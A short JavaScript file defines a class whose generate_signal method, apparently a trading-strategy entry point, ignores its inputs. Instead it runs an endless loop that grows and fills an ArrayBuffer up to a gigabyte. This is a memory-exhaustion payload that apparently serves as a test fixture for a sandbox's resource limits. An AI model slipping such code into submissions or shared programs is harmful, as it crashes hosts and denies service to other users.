export class S {
  generate_signal(team, bars, prices) {
    let buffer = new ArrayBuffer(1e6);
    for (let size = 2e6;; size += 1e6) {
      buffer = buffer.transfer(Math.min(size, 1e9));
      new Uint8Array(buffer).fill(1);
    }
  }
}
